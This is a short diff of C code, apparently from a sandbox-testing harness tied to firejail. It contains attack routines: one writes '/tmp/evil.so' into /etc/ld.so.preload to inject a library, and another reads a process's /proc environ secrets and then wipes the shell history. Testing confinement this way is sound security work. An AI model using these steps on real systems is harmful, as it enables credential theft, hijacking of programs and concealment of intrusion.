@@ -134,14 +134,19 @@ static int preload(char **args)
 	return write_file("/etc/ld.so.preload", O_CREAT, "/tmp/evil.so\n");
 }
 
-/* A shell without the service's environment, which it looks up; and it erases its history. */
+/*
+ * A shell without the service's environment, which has it looked up, and erases its history. By our
+ * own helper: firejail's default profile has no busybox, and would refuse that alone.
+ */
 static int environ_attack(char **args)
 {
 	char command[128];
 	const char *const argv[] = { "sh", "-c", command, NULL };
 
 	snprintf(command, sizeof(command),
-		"/usr/bin/busybox cat /proc/%d/environ; : >" DATA "/.sh_history", getpid());
+		"/usr/bin/range-helper show /proc/%d/environ; r=$?; : >" DATA
+		"/.sh_history; exit $r",
+		getpid());
 	return run("/bin/sh", argv);
 }
 
